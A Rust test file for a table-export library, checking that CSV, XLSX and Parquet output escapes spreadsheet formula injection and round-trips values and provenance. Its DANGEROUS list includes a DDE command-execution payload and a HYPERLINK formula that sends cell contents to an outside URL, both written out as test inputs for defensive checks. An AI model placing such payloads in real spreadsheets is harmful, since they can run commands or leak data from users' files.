//! Tables read back by other code: every cell is there, and none is one that a spreadsheet evaluates.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

use arrow_array::{Array, Date32Array, Float64Array, Int64Array, StringArray, TimestampMicrosecondArray};
use calamine::{Data, Reader, Xlsx};
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use proptest::prelude::*;
use rejoin_exchange::table::{csv, parquet, provenance_text, unescape_csv, xlsx};
use rejoin_exchange::{Cell, Kind, Language, Provenance, Table, TableError};
use std::io::Cursor;

const DANGEROUS: [&str; 12] = [
    "=1+1",
    "+1-2",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1",
    " =cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"open\")",
    "\u{ff1d}1+1",
    "'=already",
    "-5",
];

fn provenance() -> Provenance {
    Provenance {
        case: "example".into(),
        as_of: "2018-06-26".into(),
        checkpoint: "1:ab".into(),
        purpose: "the court's order".into(),
        recipient: "=the court".into(),
        made_at_micros: 1_530_000_000_000_000,
        actor: "Ana".into(),
        definition: "all children\nknown on the day".into(),
    }
}

fn table(rows: Vec<Vec<Cell>>) -> Table {
    let kinds = [
        ("=name", Kind::Text),
        ("n", Kind::Integer),
        ("x", Kind::Number),
        ("d", Kind::Date),
        ("m", Kind::Moment),
    ];
    Table {
        name: "children/all".into(),
        columns: kinds.iter().map(|(name, kind)| ((*name).to_owned(), *kind)).collect(),
        rows,
    }
}

fn row(text: &str) -> Vec<Cell> {
    vec![
        Cell::text(text),
        Cell::Integer(-5),
        Cell::Number(-0.25),
        Cell::Date(17_708),
        Cell::Moment(1_530_014_400_000_000),
    ]
}

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

#[test]
fn no_text_in_csv_is_evaluated_and_all_come_back() {
    let table = table(DANGEROUS.iter().map(|text| row(text)).collect());
    let bytes = csv(&table).unwrap();
    let rows = csv_rows(&bytes);
    assert_eq!(rows[0][0], "'=name");
    for (said, read) in DANGEROUS.iter().zip(&rows[1..]) {
        assert!(read[0].starts_with('\''), "{read:?}");
        assert_eq!(unescape_csv(&read[0]), *said);
        // Numbers and dates are none.
        assert_eq!(read[1..], ["-5", "-0.25", "2018-06-26", "2018-06-26T12:00:00Z"].map(String::from));
    }
    let harmless = ["Ana", "", "O'Neil", "'quoted'", "a=b", "3-4", "ñ\u{301}"];
    for text in harmless {
        let bytes = csv(&self::table(vec![row(text)])).unwrap();
        assert_eq!(csv_rows(&bytes)[1][0], text);
    }
    assert!(String::from_utf8(bytes).unwrap().contains("\r\n"));
}

#[test]
fn a_workbook_has_texts_and_the_provenance_first() {
    let written = table(DANGEROUS.iter().map(|text| row(text)).collect());
    let again = table(vec![
        row("x"),
        vec![Cell::Empty, Cell::Integer(i64::MAX), Cell::Number(f64::NAN), Cell::Date(-70_000), Cell::Empty],
    ]);
    let bytes = xlsx(&[written.clone(), again.clone()], &provenance(), Language::Spanish).unwrap();
    assert_eq!(bytes, xlsx(&[written, again], &provenance(), Language::Spanish).unwrap());
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&bytes)).unwrap();
    assert_eq!(book.sheet_names(), ["Procedencia", "children all", "children all (2)"]);
    let first = book.worksheet_range("Procedencia").unwrap();
    assert_eq!(first.get((4, 1)), Some(&Data::String("=the court".into())));
    assert_eq!(first.get((5, 1)), Some(&Data::String("2018-06-26T08:00:00Z".into())));
    let sheet = book.worksheet_range("children all").unwrap();
    for (at, text) in (1..).zip(DANGEROUS) {
        match sheet.get((at, 0)) {
            Some(Data::String(said)) => assert_eq!(said.trim(), text.trim()),
            other => panic!("{text:?}: {other:?}"),
        }
        assert_eq!(sheet.get((at, 1)), Some(&Data::Float(-5.0)));
    }
    match sheet.get((1, 3)) {
        Some(Data::DateTime(date)) => assert_eq!(date.as_f64(), 43_277.0),
        other => panic!("{other:?}"),
    }
    let second = book.worksheet_range("children all (2)").unwrap();
    assert_eq!(second.get((2, 1)), Some(&Data::String(i64::MAX.to_string())));
    assert_eq!(second.get((2, 2)), Some(&Data::String("NaN".into())));
    assert_eq!(second.get((2, 3)), Some(&Data::String("1778-05-07".into())));
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).unwrap();
        assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()));
    }
}

#[test]
fn parquet_keeps_kinds_and_says_where_it_comes_from() {
    let table = table(vec![row("=1+1"), vec![Cell::Empty; 5]]);
    let bytes = parquet(&table, &provenance()).unwrap();
    assert_eq!(bytes, parquet(&table, &provenance()).unwrap());
    let builder = ParquetRecordBatchReaderBuilder::try_new(bytes::Bytes::from(bytes)).unwrap();
    let metadata = builder.metadata().file_metadata().key_value_metadata().unwrap().clone();
    let said = |key: &str| metadata.iter().find(|one| one.key == key).unwrap().value.clone().unwrap();
    assert_eq!(said("rejoin.recipient"), "=the court");
    assert_eq!(said("rejoin.as-of"), "2018-06-26");
    assert_eq!(said("rejoin.table"), "children/all");
    let batch = builder.build().unwrap().next().unwrap().unwrap();
    let text = batch.column(0).as_any().downcast_ref::<StringArray>().unwrap();
    assert_eq!((text.value(0), text.is_null(1)), ("=1+1", true));
    assert_eq!(batch.column(1).as_any().downcast_ref::<Int64Array>().unwrap().value(0), -5);
    assert_eq!(batch.column(2).as_any().downcast_ref::<Float64Array>().unwrap().value(0), -0.25);
    assert_eq!(batch.column(3).as_any().downcast_ref::<Date32Array>().unwrap().value(0), 17_708);
    let moments = batch.column(4).as_any().downcast_ref::<TimestampMicrosecondArray>().unwrap();
    assert_eq!((moments.value(0), moments.timezone()), (1_530_014_400_000_000, Some("UTC")));
    // No rows, no columns: still files.
    for empty in [self::table(Vec::new()), Table::default()] {
        parquet(&empty, &provenance()).unwrap();
        csv(&empty).unwrap();
        xlsx(&[empty], &provenance(), Language::English).unwrap();
    }
}

#[test]
fn what_does_not_fit_is_refused() {
    let ragged = table(vec![vec![Cell::Empty]]);
    assert!(matches!(csv(&ragged), Err(TableError::Ragged { row: 1, cells: 1, columns: 5, .. })));
    let odd = table(vec![vec![Cell::Integer(1), Cell::Empty, Cell::Empty, Cell::Empty, Cell::Empty]]);
    assert!(matches!(parquet(&odd, &provenance()), Err(TableError::Kind { .. })));
    let long = table(vec![row(&"x".repeat(32_768))]);
    assert!(matches!(
        xlsx(std::slice::from_ref(&long), &provenance(), Language::English),
        Err(TableError::TooLarge { .. })
    ));
    csv(&long).unwrap();
}

#[test]
fn the_companion_names_the_file_by_its_hash() {
    let text = provenance_text(&provenance(), &[("children.csv", b"abc")], Language::English);
    assert!(text.contains("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad  children.csv"));
    assert!(text.contains("Definition: all children known on the day\n"));
}

/// A text but for how its lines end and the blanks around it, which readers of workbooks fold.
fn ends(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\r', "\n").trim().to_owned()
}

proptest! {
    #[test]
    fn any_text_comes_back_from_every_format(texts in proptest::collection::vec("(\\PC|[=+@\\-'\t\r\n ]){0,12}", 1..6)) {
        let table = table(texts.iter().map(|text| row(text)).collect());
        let rows = csv_rows(&csv(&table).unwrap());
        let bytes = xlsx(std::slice::from_ref(&table), &provenance(), Language::English).unwrap();
        let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&bytes)).unwrap();
        let sheet = book.worksheet_range("children all").unwrap();
        for (at, text) in (1..).zip(&texts) {
            prop_assert_eq!(unescape_csv(&rows[at][0]), text);
            let first = rows[at][0].trim_start_matches(|sign: char| sign.is_whitespace() || sign.is_control()).chars().next();
            prop_assert!(!first.is_some_and(|first| "=+-@".contains(first)), "{:?}", rows[at][0]);
            if !text.is_empty() {
                let read = sheet.get((at, 0)).map(ToString::to_string).unwrap_or_default();
                prop_assert_eq!(ends(&read), ends(text));
            }
        }
    }
}
